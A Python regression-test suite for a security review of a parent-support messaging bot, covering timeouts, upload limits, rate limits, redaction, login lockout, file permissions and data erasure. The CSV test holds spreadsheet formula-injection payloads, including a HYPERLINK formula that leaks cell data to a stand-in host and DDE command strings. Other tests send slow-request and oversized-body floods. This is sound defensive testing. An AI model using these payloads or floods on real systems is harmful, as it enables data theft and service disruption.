"""Regression tests for the security review (../shared/reviews/security-review.md), one or more per finding.

Each test is named after its finding (test_f01_..., test_f27_...) and failed on the code the
review attacked. Where the review attacked the running server, so does the test: real HTTP
on 127.0.0.1 against `python main.py` in a subprocess (the `live` fixture, production mode)
or against the real app under the real uvicorn settings (`served`, bot.server.build_server).
Everything is bounded in time and every process started here is stopped by its pid.
"""
from __future__ import annotations

import asyncio
import contextlib
import csv
import os
import re
import secrets
import socket
import sqlite3
import subprocess
import sys
import time
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest

from bot.config import ConfigError, Settings, secret_weakness
from bot.editors.auth import (CLIENT_FREE_FAILURES, CLIENT_LOCK_SECONDS, LoginThrottle, PasswordHashError,
                              hash_password, parse_hash)
from bot.identity import load_secret
from bot.reload import running_server, write_pid
from bot.server import build_server
from bot.store import LogRecord, SQLiteStore
from bot.web import create_app
from conftest import ROOT, write_kb
from ports import free_port
from twilio_client import PUBLIC, TOKEN, Phone, bodies, log_rows, make_signpost, settings_for, sign, twilio_form

PASSWORD = "Correct-Horse-7-battery"
HASH = hash_password(PASSWORD)
MB = 1024 * 1024


# ------------------------------------------------------------------ servers

@contextlib.asynccontextmanager
async def served(settings: Settings) -> AsyncIterator[str]:
    """The real app under the real server settings (bot.server.build_server) on 127.0.0.1:0."""
    signpost = await make_signpost(settings)
    server = build_server(create_app(signpost), "127.0.0.1", 0)
    server.capture_signals = contextlib.nullcontext  # leave pytest's signal handlers alone
    task = asyncio.create_task(server.serve())
    try:
        for _ in range(500):
            if server.started or task.done():
                break
            await asyncio.sleep(0.01)
        assert server.started, "the server did not start"
        yield f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}"
    finally:
        server.should_exit = True
        await asyncio.wait_for(task, 30)


@dataclass
class Live:
    """`python main.py` in production mode, in a subprocess."""

    process: subprocess.Popen
    base: str
    port: int
    log: Path
    db: Path

    def rss(self) -> int:
        return _status_kb(self.process.pid, "VmRSS")

    def peak(self) -> int:
        return _status_kb(self.process.pid, "VmHWM")

    def reset_peak(self) -> None:
        Path(f"/proc/{self.process.pid}/clear_refs").write_text("5")  # VmHWM := VmRSS


def _status_kb(pid: int, field: str) -> int:
    found = re.search(rf"^{field}:\s+(\d+) kB", Path(f"/proc/{pid}/status").read_text(), re.M)
    assert found
    return int(found.group(1))


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    """`python main.py` with no sub-command (production; Twilio, the editors' page, a trusted proxy on 127.0.0.1)."""
    home = tmp_path_factory.mktemp("live")
    kb = write_kb(home / "kb")
    log = home / "server.log"
    port = free_port()  # `python main.py` logs only warnings, so the port is chosen here, not read from its log
    env = {**os.environ, "SIGNPOST_ENV": "production", "SIGNPOST_SECRET": secrets.token_hex(32),
           "TWILIO_AUTH_TOKEN": TOKEN, "PUBLIC_BASE_URL": PUBLIC, "SIGNPOST_EDITOR_PASSWORD_HASH": HASH,
           "SIGNPOST_DB": str(home / "data" / "log.sqlite3"), "SIGNPOST_KNOWLEDGE": str(kb),
           "SIGNPOST_PORT": str(port), "SIGNPOST_REQUEST_TIMEOUT": "2", "SIGNPOST_TRUSTED_PROXIES": "127.0.0.1",
           "SIGNPOST_CACHE_DIR": ""}
    for name in ("SIGNPOST_HOST", "TELEGRAM_BOT_TOKEN", "SIGNPOST_INSECURE_SKIP_TWILIO_SIGNATURE"):
        env.pop(name, None)
    with log.open("w") as out:
        process = subprocess.Popen([sys.executable, str(ROOT / "main.py")], cwd=home, env=env,
                                   stdout=out, stderr=subprocess.STDOUT)
    try:
        deadline = time.monotonic() + 120
        while not _answers(f"http://127.0.0.1:{port}/healthz"):
            assert process.poll() is None and time.monotonic() < deadline, log.read_text()
            time.sleep(0.2)
        yield Live(process, f"http://127.0.0.1:{port}", port, log, home / "data" / "log.sqlite3")
    finally:
        process.terminate()
        try:
            process.wait(timeout=30)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


def _answers(url: str) -> bool:
    try:
        return httpx.get(url, timeout=1).status_code == 200
    except httpx.HTTPError:
        return False


def listening_addresses(pid: int, port: int) -> set[str]:
    """The local addresses the process listens on for `port` (from /proc/<pid>/net/tcp and tcp6)."""
    found = set()
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/{pid}/net/{table}").read_text().splitlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            address, hex_port = local.split(":")
            if state == "0A" and int(hex_port, 16) == port:  # 0A: LISTEN
                found.add(socket.inet_ntop(socket.AF_INET, bytes.fromhex(address)[::-1]) if table == "tcp" else address)
    return found


def raw(port: int, data: bytes = b"") -> socket.socket:
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    if data:
        sock.sendall(data)
    return sock


def closed_by_server(sock: socket.socket, within: float) -> bool:
    """True when the server closes the connection within `within` seconds (whatever it says first)."""
    sock.settimeout(within)
    deadline = time.monotonic() + within
    try:
        while time.monotonic() < deadline:
            if sock.recv(65536) == b"":
                return True
    except (ConnectionResetError, BrokenPipeError):
        return True
    except socket.timeout:
        return False
    return False


def cookie_of(response: httpx.Response, name: str) -> str:
    """A cookie the server set; read by hand, because httpx keeps Secure cookies off plain http."""
    for header in response.headers.get_list("set-cookie"):
        if header.startswith(f"{name}="):
            return header.split(";", 1)[0].split("=", 1)[1]
    return ""


def csrf_of(page: str) -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', page)
    assert found, page
    return found.group(1)


def login_form(base: str, ip: str) -> tuple[str, str]:
    """A fresh login form for the client at `ip`: its token and its cookie."""
    page = httpx.get(f"{base}/editors", headers={"X-Forwarded-For": ip}, timeout=30)
    return csrf_of(page.text), cookie_of(page, "signpost_editors_login")


def post_login(base: str, ip: str, csrf: str, cookie: str, password: str) -> httpx.Response:
    return httpx.post(f"{base}/editors/login", data={"csrf": csrf, "password": password}, timeout=60,
                      headers={"X-Forwarded-For": ip, "Cookie": f"signpost_editors_login={cookie}"})


def log_in(base: str, ip: str, password: str = PASSWORD) -> httpx.Response:
    return post_login(base, ip, *login_form(base, ip), password)


# ------------------------------------------------------------------ F01: slow requests, bind address

def test_f01_main_listens_on_this_machine_only_by_default(live: Live) -> None:
    """`python main.py` with Twilio configured binds 127.0.0.1, not every interface (it was 0.0.0.0:8000)."""
    assert listening_addresses(live.process.pid, live.port) == {"127.0.0.1"}
    assert Settings.from_env({}).host == "127.0.0.1"


def test_f01_slow_and_idle_requests_are_cut_off(live: Live) -> None:
    """Half-sent headers, a body sent a byte at a time, and an idle socket are all closed after the timeout (2 s here)."""
    half_headers = raw(live.port, b"POST /twilio/messages HTTP/1.1\r\nHost: x\r\n")
    idle = raw(live.port)
    drip = raw(live.port, b"POST /editors/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded"
                          b"\r\nContent-Length: 1000\r\n\r\n")
    started = time.monotonic()
    try:
        for _ in range(4):  # one byte every half second, as the review's drip did every 10 s
            drip.sendall(b"a")
            time.sleep(0.5)
        assert closed_by_server(half_headers, 4) and closed_by_server(idle, 4) and closed_by_server(drip, 4)
        assert time.monotonic() - started < 6
    finally:
        for sock in (half_headers, idle, drip):
            sock.close()


def test_f01_healthz_answers_within_a_second_under_200_slow_connections(live: Live) -> None:
    """Done-when: 200 connections holding half a request open, and /healthz still answers within 1 s."""
    slow = [raw(live.port, b"POST /twilio/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n")
            for _ in range(200)]
    try:
        started = time.monotonic()
        response = httpx.get(f"{live.base}/healthz", timeout=1)
        took = time.monotonic() - started
    finally:
        for sock in slow:
            sock.close()
    print(f"\n/healthz under 200 slow connections: {took * 1000:.0f} ms")
    assert response.status_code == 200 and took < 1


async def test_f01_connections_beyond_the_cap_are_closed_at_once(tmp_path: Path) -> None:
    """Past SIGNPOST_MAX_CONNECTIONS a new connection is closed as soon as it is accepted (no descriptor kept)."""
    async with served(settings_for(tmp_path, max_connections=20)) as base:
        port = int(base.rsplit(":", 1)[1])
        held = [raw(port, b"GET /healthz HTTP/1.1\r\n") for _ in range(20)]
        extra = [raw(port, b"GET /healthz HTTP/1.1\r\n") for _ in range(5)]
        try:
            closed = await asyncio.gather(*(asyncio.to_thread(closed_by_server, s, 2) for s in extra))
        finally:
            for sock in held + extra:
                sock.close()
    assert all(closed)


# ------------------------------------------------------------------ F02: huge bodies before login

def _post_huge(port: int, path: str, size: int, content_type: str, chunked: bool = False) -> tuple[int, int]:
    """Send up to `size` bytes of body; returns (the status answered, bytes sent before the server stopped us)."""
    head = f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: {content_type}\r\n"
    head += "Transfer-Encoding: chunked\r\n\r\n" if chunked else f"Content-Length: {size}\r\n\r\n"
    sock = raw(port, head.encode())
    sent = 0
    piece = b"f=" + b"a" * (MB - 2)
    try:
        while sent < size:
            chunk = f"{len(piece):x}\r\n".encode() + piece + b"\r\n" if chunked else piece
            sock.sendall(chunk)
            sent += len(piece)
    except (BrokenPipeError, ConnectionResetError):
        pass
    try:
        sock.settimeout(5)
        answer = sock.recv(4096)
    except (ConnectionResetError, socket.timeout):
        answer = b""
    finally:
        sock.close()
    found = re.match(rb"HTTP/1.1 (\d+)", answer)
    return (int(found.group(1)) if found else 0), sent


def test_f02_a_100mb_post_to_any_route_is_refused_without_memory_growth(live: Live) -> None:
    """Done-when: 100 MB posted (declared, then chunked) to every route before login: refused, RSS grows < 20 MB."""
    routes = ["/editors/reload", "/editors/login", "/editors/logout", "/twilio/messages", "/telegram/webhook",
              "/healthz", "/no-such-page"]
    httpx.get(f"{live.base}/healthz")
    before = live.rss()
    live.reset_peak()
    statuses = {}
    for path in routes:
        for chunked in (False, True):
            status, sent = _post_huge(live.port, path, 100 * MB, "application/x-www-form-urlencoded", chunked)
            statuses[(path, chunked)] = status
    growth = (live.peak() - before) / 1024
    print(f"\n100 MB posts to {len(routes)} routes (declared and chunked): peak RSS {before / 1024:.0f} MB "
          f"+ {growth:.1f} MB; answers {sorted(set(statuses.values()))}")
    assert growth < 20, growth
    assert all(status in (0, 405, 413) for status in statuses.values()), statuses
    assert statuses[("/editors/reload", False)] == 413 and statuses[("/twilio/messages", False)] == 413
    assert httpx.get(f"{live.base}/healthz", timeout=5).status_code == 200


def test_f02_file_uploads_are_refused_before_reading(live: Live) -> None:
    """A multipart upload (the review's 300 MB file to /editors/logout) is refused without a temporary file."""
    started = time.monotonic()
    status, _ = _post_huge(live.port, "/editors/logout", 300 * MB, "multipart/form-data; boundary=x")
    assert status == 415 and time.monotonic() - started < 5
    spool = [p for p in Path(f"/proc/{live.process.pid}/fd").iterdir() if "(deleted)" in os.readlink(p)]
    assert spool == []


# ------------------------------------------------------------------ F03, F12, F13: limits and erasure on Twilio

async def test_f03_forget_does_not_reset_the_rate_limit(tmp_path: Path) -> None:
    """10 questions, an 11th (notice), FORGET, a 12th: still limited (FORGET used to empty the window)."""
    async with served(settings_for(tmp_path)) as base, httpx.AsyncClient() as client:
        parent = Phone(base, client, sender="+447700900150")
        answered = [await parent.text("What is an EHC plan?") for _ in range(10)]
        notice = await parent.text("What is an EHC plan?")
        await parent.text("FORGET")
        after = await parent.text("What is an EHC plan?")
    assert all(answered) and "wait" in notice[0] and after == []


async def test_f03_stop_start_and_forget_replies_are_limited_but_honoured(tmp_path: Path) -> None:
    """20 STOP/START and 20 FORGET: a few confirmations, not 40 billed replies; the last STOP still holds."""
    async with served(settings_for(tmp_path)) as base, httpx.AsyncClient() as client:
        parent = Phone(base, client, sender="+447700900160")
        replies = [await parent.text("STOP" if i % 2 == 0 else "START") for i in range(20)]
        replies += [await parent.text("FORGET") for _ in range(20)]
        await parent.text("STOP")
        silent = await parent.text("What is an EHC plan?")
    assert sum(1 for r in replies if r) <= 3 and silent == []


async def test_f12_forget_on_whatsapp_erases_the_sms_rows_of_the_number_too(tmp_path: Path) -> None:
    """FORGET on one channel erases what was kept from the same number on the other."""
    async with served(settings_for(tmp_path)) as base, httpx.AsyncClient() as client:
        await Phone(base, client, sender="+447700900900").text("What is an EHC plan?")
        await Phone(base, client, sender="whatsapp:+447700900900").text("What is an EHC plan?")
        await Phone(base, client, sender="+447700900901").text("What is an EHC plan?")
        assert len(log_rows(tmp_path / "log.sqlite3")) == 3
        await Phone(base, client, sender="whatsapp:+447700900900").text("FORGET")
    assert len(log_rows(tmp_path / "log.sqlite3")) == 1


async def test_f13_one_number_written_many_ways_is_one_sender(tmp_path: Path) -> None:
    """Spellings of one number share one limit and one opt-out (70 answers used to come back for 10 allowed)."""
    spellings = ["+447700900130", "+44 7700 900130", "447700900130", "07700900130", "whatsapp:+447700900130",
                 "+44\u200b7700900130", "+44-7700-900130"]
    async with served(settings_for(tmp_path)) as base, httpx.AsyncClient() as client:
        got = [await Phone(base, client, sender=spellings[i % len(spellings)]).text("What is an EHC plan?")
               for i in range(14)]
        await Phone(base, client, sender="+447700900140").text("STOP")
        after_stop = [await Phone(base, client, sender=s).text("What is an EHC plan?")
                      for s in ("+44 7700 900140", "447700900140", "whatsapp:+447700900140")]
    answers = [g for g in got if g and "wait" not in g[0]]
    assert len(answers) == 10 and after_stop == [[], [], []]


# ------------------------------------------------------------------ F04: redaction keeps its promise

REVIEW_WORDINGS = [  # the review's P02 wordings that were stored with the detail intact, and the detail
    ("my son jack has adhd", "jack"), ("my son is Jack", "Jack"), ("Jack is my son", "Jack"),
    ("my autistic son Jack needs help", "Jack"), ("My daughter, Emily, has autism", "Emily"),
    ("I'm Sarah Jones from Leominster", "Sarah"), ("I'm Sarah Jones from Leominster", "Jones"),
    ("Jack Smith at Whitecross High", "Jack Smith"), ("we live at 12 Acacia Avenue, Hereford", "Acacia"),
    ("my NI number is QQ 12 34 56 C", "34 56"), ("message me @janedoe1985", "janedoe1985"),
    ("jane dot doe at example dot com", "doe"), ("ring me on O77OO 9OO555", "9OO555"),
    ("his birthday is the twelfth of March", "twelfth"),
]


@pytest.mark.parametrize("text,detail", REVIEW_WORDINGS)
def test_f04_the_reviews_wordings_are_redacted(text: str, detail: str) -> None:
    """Each wording the review found stored intact loses its personal detail."""
    from bot.redaction import redact

    assert detail not in redact(text)


async def test_f04_redacted_over_real_sms(tmp_path: Path) -> None:
    """Over the real webhook, the stored rows hold placeholders, not the review's details."""
    async with served(settings_for(tmp_path)) as base, httpx.AsyncClient() as client:
        parent = Phone(base, client, sender="+447700900170")
        for text, _ in REVIEW_WORDINGS[:8]:
            await parent.text(text)
    stored = " | ".join(row["text"] for row in log_rows(tmp_path / "log.sqlite3"))
    for name in ("jack", "Emily", "Sarah", "Jones", "Smith"):
        assert name.lower() not in stored.lower(), stored


def test_f04_privacy_text_says_what_can_slip_through() -> None:
    """The privacy text no longer promises every name is removed: it says some may be missed."""
    from bot.privacy import privacy_sms, privacy_text

    assert "may miss" in privacy_text(90) and "may miss" in privacy_sms(90)
    assert "both" in privacy_text(90)  # FORGET covers SMS and WhatsApp (F12)


# The property test over generated wordings is in tests/test_redaction.py (test_property_names_never_survive).


# ------------------------------------------------------------------ F05-F07: the editors' login

def test_f05_repeated_wrong_passwords_lock_out_that_client_only(live: Live) -> None:
    """After 5 wrong passwords a client is refused (even the right one), while another client still logs in."""
    wrong = [log_in(live.base, "203.0.113.5", f"guess{i}").status_code for i in range(5)]
    locked = log_in(live.base, "203.0.113.5")
    other = log_in(live.base, "203.0.113.6")
    assert wrong == [401] * 5 and locked.status_code == 429 and "Try again" in locked.text
    assert other.status_code == 303 and cookie_of(other, "signpost_editors")


def test_f05_a_login_form_token_works_once(live: Live) -> None:
    """Reusing one login form (token and cookie) for a second attempt is refused (it used to work for an hour)."""
    csrf, cookie = login_form(live.base, "203.0.113.7")
    first = post_login(live.base, "203.0.113.7", csrf, cookie, "nope")
    second = post_login(live.base, "203.0.113.7", csrf, cookie, PASSWORD)
    assert first.status_code == 401 and second.status_code == 403


def test_f05_the_lockout_ends_and_the_right_password_works_again() -> None:
    """A locked-out client may try again once the lockout is over, and the right password clears its count."""
    throttle = LoginThrottle()
    for _ in range(CLIENT_FREE_FAILURES):
        throttle.failed("a", now=1000.0)
    assert throttle.wait("a", now=1000.0) == pytest.approx(CLIENT_LOCK_SECONDS)
    assert throttle.wait("b", now=1000.0) == 0
    assert throttle.wait("a", now=1000.0 + CLIENT_LOCK_SECONDS) == 0
    throttle.succeeded("a")
    assert throttle.wait("a", now=1000.0 + CLIENT_LOCK_SECONDS) == 0 and "a" not in throttle.clients


def test_f05_guessing_from_many_clients_locks_the_page_overall() -> None:
    """100 wrong passwords from 100 addresses within an hour lock the login for everyone for a while."""
    throttle = LoginThrottle()
    for i in range(100):
        throttle.failed(f"10.0.0.{i}", now=2000.0 + i)
    assert throttle.wait("192.0.2.1", now=2100.0) > 0
    assert throttle.wait("192.0.2.1", now=2100.0 + 16 * 60) == 0


def test_f06_a_real_login_is_not_queued_behind_guesses(live: Live) -> None:
    """While 12 clients guess wrong at once, the editor's right password is answered in seconds, not 12+."""
    forms = [(f"198.51.100.{i}", *login_form(live.base, f"198.51.100.{i}")) for i in range(12)]

    async def run() -> tuple[float, int]:
        pending = asyncio.gather(*(asyncio.to_thread(post_login, live.base, ip, csrf, cookie, "wrong")
                                   for ip, csrf, cookie in forms))
        await asyncio.sleep(0.2)
        started = time.monotonic()
        status = (await asyncio.to_thread(log_in, live.base, "198.51.100.200")).status_code
        took = time.monotonic() - started
        assert {r.status_code for r in await pending} == {401}
        return took, status

    took, status = asyncio.run(run())
    print(f"\nthe editor's login during 12 parallel guesses: {took:.2f} s")
    assert status == 303 and took < 10, took  # queued behind 12 guesses of 1 s each it took 12 s or more


def test_f07_logout_ends_the_session_on_the_server(live: Live) -> None:
    """After logout the old session cookie, replayed, no longer opens the editors' page."""
    session = cookie_of(log_in(live.base, "203.0.113.20"), "signpost_editors")
    cookie = {"Cookie": f"signpost_editors={session}"}
    page = httpx.get(f"{live.base}/editors", headers=cookie, timeout=30)
    assert "Log out" in page.text or "logout" in page.text
    assert httpx.post(f"{live.base}/editors/logout", data={"csrf": csrf_of(page.text)}, headers=cookie,
                      timeout=30).status_code == 303
    again = httpx.get(f"{live.base}/editors", headers=cookie, timeout=30)
    assert 'type="password"' in again.text and "logout" not in again.text


# ------------------------------------------------------------------ F08, F22: private files

async def test_f08_database_wal_and_folder_are_private_from_the_start(tmp_path: Path) -> None:
    """A fresh database, its -wal and -shm, and the folder made for it are 0600/0700 while the server runs."""
    old = os.umask(0o022)  # what a service usually runs with
    try:
        async with SQLiteStore(tmp_path / "data" / "log.sqlite3") as store:
            await store.log(LogRecord("sms", "k", "a question", "unanswered"))
            modes = {p.name: p.stat().st_mode & 0o777 for p in (tmp_path / "data").iterdir()}
            folder = (tmp_path / "data").stat().st_mode & 0o777
        settings = Settings(db_path=tmp_path / "dev" / "log.sqlite3")
        load_secret(settings)
        key = (tmp_path / "dev" / "secret.key").stat().st_mode & 0o777
        pid = write_pid(settings).stat().st_mode & 0o777
    finally:
        os.umask(old)
    assert folder == 0o700 and key == 0o600 and pid == 0o600
    assert modes == {"log.sqlite3": 0o600, "log.sqlite3-wal": 0o600, "log.sqlite3-shm": 0o600}, modes


def test_f21_f22_csv_export_is_private_and_safe_in_spreadsheets(tmp_path: Path) -> None:
    """`editors unanswered --csv` writes a 0600 file whose formula-looking cells start with a quote."""
    db = tmp_path / "log.sqlite3"
    payloads = ['=HYPERLINK("https://evil.example/?x="&A2,"Click for help")', "+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3 zzq"]

    async def fill() -> None:
        async with SQLiteStore(db) as store:
            for text in payloads:
                await store.log(LogRecord("sms", "k", text, "unanswered"))

    asyncio.run(fill())
    out = tmp_path / "u.csv"
    env = {**os.environ, "SIGNPOST_DB": str(db)}
    done = subprocess.run([sys.executable, str(ROOT / "main.py"), "editors", "unanswered", "--csv", str(out),
                           "--kb", str(write_kb(tmp_path / "kb"))], cwd=tmp_path, env=env, capture_output=True,
                          text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert out.stat().st_mode & 0o777 == 0o600
    cells = [cell for row in csv.reader(out.open(encoding="utf-8")) for cell in row]
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "@", "-"))], cells


# ------------------------------------------------------------------ F09-F11: erasure that stays erased

async def test_f09_forget_leaves_nothing_in_the_wal_after_a_reader_lets_go(tmp_path: Path) -> None:
    """FORGET while another connection reads: once the reader closes, the erased text leaves the WAL too."""
    db = tmp_path / "log.sqlite3"
    async with SQLiteStore(db) as store:
        for _ in range(3):
            await store.log(LogRecord("sms", "wombat-sender", "the wombatine question", "unanswered"))
        reader = sqlite3.connect(db, isolation_level=None)
        reader.execute("BEGIN")
        reader.execute("SELECT count(*) FROM messages").fetchone()
        await store.forget("wombat-sender")
        reader.execute("COMMIT")
        reader.close()
        deadline = time.monotonic() + 5
        while b"wombatine" in _bytes_of(db) and time.monotonic() < deadline:
            await asyncio.sleep(0.1)
        assert b"wombatine" not in _bytes_of(db)


def _bytes_of(db: Path) -> bytes:
    return b"".join(p.read_bytes() for p in db.parent.iterdir() if p.name.startswith(db.name))


async def test_f10_a_replayed_request_cannot_bring_back_a_forgotten_message(tmp_path: Path) -> None:
    """A captured signed request, replayed after FORGET, is not answered or logged again."""
    async with served(settings_for(tmp_path)) as base, httpx.AsyncClient() as client:
        parent = Phone(base, client, sender="+447700900180")
        form = twilio_form("my son needs a wheelchair ramp at school", sender="+447700900180")
        first = await parent.post(form)
        await parent.text("FORGET")
        replay = await parent.post(form)
    assert bodies(first.text) and replay.status_code == 200 and bodies(replay.text) == []
    assert log_rows(tmp_path / "log.sqlite3") == []


async def test_f11_replies_kept_for_retries_only(tmp_path: Path) -> None:
    """Past the two-day retry window the purge blanks a delivery's reply and sender; the id stays for replays."""
    db = tmp_path / "log.sqlite3"
    async with SQLiteStore(db) as store:
        await store.remember_delivery("twilio", "SMold", "sender-key", "<Response>an old reply</Response>")
        await store.remember_delivery("twilio", "SMnew", "sender-key", "<Response>a new reply</Response>")
        with contextlib.closing(sqlite3.connect(db)) as other:
            other.execute("UPDATE deliveries SET at = '2000-01-01T00:00:00+00:00' WHERE delivery_id = 'SMold'")
            other.commit()
        await store.purge(36500)
        kept = {row[0]: row[1:] for row in (await (await store.db.execute(
            "SELECT delivery_id, sender, reply FROM deliveries")).fetchall())}
    assert kept == {"SMold": ("", ""), "SMnew": ("sender-key", "<Response>a new reply</Response>")}


# ------------------------------------------------------------------ F14, F16: Telegram

async def test_f14_one_telegram_chat_is_rate_limited_but_a_crisis_gets_through(tmp_path: Path) -> None:
    """A chat gets its limit of answers, one notice, then silence; a crisis message is still answered."""
    from fake_telegram import polling_bot

    settings = Settings(db_path=tmp_path / "log.sqlite3", secret="s" * 40, knowledge_dir=write_kb(tmp_path / "kb"),
                        telegram_rate_limit_count=3)
    async with polling_bot(settings) as (fake, _):
        for _ in range(6):
            await fake.send_text(4242, "what is an ehcp")
        await fake.wait_for("sendMessage", 4)
        await fake.send_text(4242, "I want to kill myself tonight")
        await fake.wait_for("sendMessage", 5)
        await asyncio.sleep(0.5)  # nothing more should come
        sent = fake.sent(4242)
    texts = [call.params["text"] for call in sent if call.method == "sendMessage"]
    # Updates are handled concurrently, so the order of the replies is not fixed; what they are is.
    assert len(texts) == 5 and sum("EHC plan" in t for t in texts) == 3
    assert sum("wait" in t for t in texts) == 1 and sum("999" in t for t in texts) == 1


async def test_f16_a_huge_telegram_post_is_refused_before_it_is_read(tmp_path: Path) -> None:
    """200 MB to the Telegram webhook path is refused on its Content-Length; a 100,000-letter word redacts fast."""
    from bot.redaction import redact

    async with served(settings_for(tmp_path)) as base:
        port = int(base.rsplit(":", 1)[1])
        started = time.monotonic()
        status, _ = await asyncio.to_thread(_post_huge, port, "/telegram/webhook", 200 * MB, "application/json")
        assert status == 413 and time.monotonic() - started < 5
    started = time.monotonic()
    redact("x" * 100_000 + " and a@b.com")
    assert time.monotonic() - started < 1


# ------------------------------------------------------------------ F17-F19: configuration

@pytest.mark.parametrize("env,problem", [
    ({"SIGNPOST_SECRET": "a" * 32}, "SIGNPOST_SECRET is weak"),
    ({"SIGNPOST_SECRET": "password" * 4}, "SIGNPOST_SECRET is weak"),
    ({"SIGNPOST_SECRET": "abcdefghijklmnopqrstuvwxyz012345"}, "SIGNPOST_SECRET is weak"),
    ({"TELEGRAM_BOT_TOKEN": "1:a", "TELEGRAM_WEBHOOK_SECRET": "a"}, "TELEGRAM_WEBHOOK_SECRET is weak"),
    ({"TELEGRAM_BOT_TOKEN": "1:a", "TELEGRAM_API_BASE_URL": "http://bot-api.example.org"}, "must be https"),
])
def test_f17_production_refuses_weak_secrets_and_a_plain_http_bot_api(env: dict, problem: str) -> None:
    """Weak secrets (not just short ones) and an http Bot API address stop a production start."""
    settings = Settings.from_env({"SIGNPOST_ENV": "production", "SIGNPOST_SECRET": secrets.token_hex(32), **env})
    assert any(problem in p for p in settings.problems()), settings.problems()


def test_f17_strong_secrets_and_a_local_bot_api_are_accepted() -> None:
    """Random secrets of 32+ characters, and http to a Bot API on this machine, still start."""
    for _ in range(200):
        assert secret_weakness(secrets.token_hex(16)) is None and secret_weakness(secrets.token_urlsafe(32)) is None
    settings = Settings.from_env({"SIGNPOST_ENV": "production", "SIGNPOST_SECRET": secrets.token_hex(32),
                                  "TELEGRAM_BOT_TOKEN": "1:a", "TELEGRAM_API_BASE_URL": "http://127.0.0.1:8081"})
    assert settings.problems() == []


@pytest.mark.parametrize("value", ["prod", "live", "Production ", "staging"])
def test_f18_an_unknown_environment_refuses_to_start(tmp_path: Path, value: str) -> None:
    """SIGNPOST_ENV=prod (a typo) no longer starts a development server with signature checks off."""
    env = {**os.environ, "SIGNPOST_ENV": value, "SIGNPOST_INSECURE_SKIP_TWILIO_SIGNATURE": "true",
           "SIGNPOST_DB": str(tmp_path / "log.sqlite3")}
    done = subprocess.run([sys.executable, str(ROOT / "main.py"), "serve", "--port", "0"], cwd=tmp_path, env=env,
                          capture_output=True, text=True, timeout=60)
    if value.strip().lower() == "production":
        assert done.returncode == 2 and "SIGNPOST_SECRET" in done.stderr
    else:
        assert done.returncode == 2 and "SIGNPOST_ENV must be" in done.stderr


@pytest.mark.parametrize("content", [b"", b"\n", b"short"])
def test_f19_an_empty_or_short_key_file_is_refused(tmp_path: Path, content: bytes) -> None:
    """An empty data/secret.key would make sender keys a plain hash: start-up refuses it."""
    (tmp_path / "secret.key").write_bytes(content)
    with pytest.raises(ConfigError, match="shorter than 32 bytes"):
        load_secret(Settings(db_path=tmp_path / "log.sqlite3"))


# ------------------------------------------------------------------ F20, F24, F25: editors' page details

async def test_f20_production_cookies_are_secure_and_hsts_is_sent(tmp_path: Path) -> None:
    """In production without PUBLIC_BASE_URL (behind a TLS proxy) cookies are still Secure, and HSTS is sent."""
    settings = Settings(environment="production", db_path=tmp_path / "log.sqlite3", secret=secrets.token_hex(32),
                        editor_password_hash=HASH)
    async with served(settings) as base, httpx.AsyncClient() as client:
        page = await client.get(f"{base}/editors")
        health = await client.get(f"{base}/healthz")
    assert "secure" in page.headers["set-cookie"].lower()
    assert health.headers["strict-transport-security"].startswith("max-age=")


async def test_f24_a_huge_since_is_a_clean_page_not_a_500(tmp_path: Path) -> None:
    """?since= with 5,000 digits falls back to the default period instead of a 500."""
    settings = settings_for(tmp_path, editor_password_hash=HASH)
    async with served(settings) as base:
        login = await asyncio.to_thread(log_in, base, "127.0.0.1")
        session = {"Cookie": f"signpost_editors={cookie_of(login, 'signpost_editors')}"}
        async with httpx.AsyncClient(follow_redirects=False) as client:
            stats = await client.get(f"{base}/editors/stats", params={"since": "9" * 5000 + "d"}, headers=session)
    assert login.status_code == 303 and stats.status_code == 200 and "Weekly stats" in stats.text


async def test_f25_no_redirect_echoes_the_host_header(tmp_path: Path) -> None:
    """GET /editors/ with Host: evil.example no longer answers a redirect to http://evil.example/editors."""
    async with served(settings_for(tmp_path, editor_password_hash=HASH)) as base, httpx.AsyncClient() as client:
        response = await client.get(f"{base}/editors/", headers={"Host": "evil.example"}, follow_redirects=False)
    assert response.status_code == 404 and "evil.example" not in response.headers.get("location", "")


# ------------------------------------------------------------------ F26, F27

async def test_f26_unsigned_garbage_gets_no_parser_details(tmp_path: Path) -> None:
    """A wrongly signed body that is not UTF-8, or has 300 fields, gets a plain refusal without the parser's words."""
    async with served(settings_for(tmp_path)) as base, httpx.AsyncClient() as client:
        headers = {"X-Twilio-Signature": "x", "Content-Type": "application/x-www-form-urlencoded"}
        bad_utf8 = await client.post(f"{base}/twilio/messages", content=b"Body=\xff\xfe&From=1", headers=headers)
        many = await client.post(f"{base}/twilio/messages", content="&".join(f"f{i}=1" for i in range(300)).encode(),
                                 headers=headers)
    for response in (bad_utf8, many):
        assert response.status_code in (400, 403)
        assert "codec" not in response.text and "fields" not in response.text and "position" not in response.text


@pytest.mark.parametrize("weak", ["pbkdf2_sha256:1000:AAAA:AAAA", "scrypt:2:1:1:AAAA:AAAA",
                                  "scrypt:1048576:8:1:AAAA:AAAA", "scrypt:4096:8:1:AAAA:AAAA"])
def test_f27_weak_or_unusable_hash_costs_are_refused(weak: str) -> None:
    """Too cheap (pbkdf2 1,000; scrypt N=2) or too dear for maxmem (N=2^20, r=8): the page stays off."""
    with pytest.raises(PasswordHashError):
        parse_hash(weak)


def test_f27_the_hash_this_bot_makes_is_accepted() -> None:
    """`editors password-hash` output passes the stricter check."""
    assert parse_hash(HASH)[0] == "scrypt"


# ------------------------------------------------------------------ F23: the pid file

def test_f23_a_planted_pid_is_never_signalled(tmp_path: Path) -> None:
    """A pid file naming another program (with its real start time) is refused, and that program lives."""
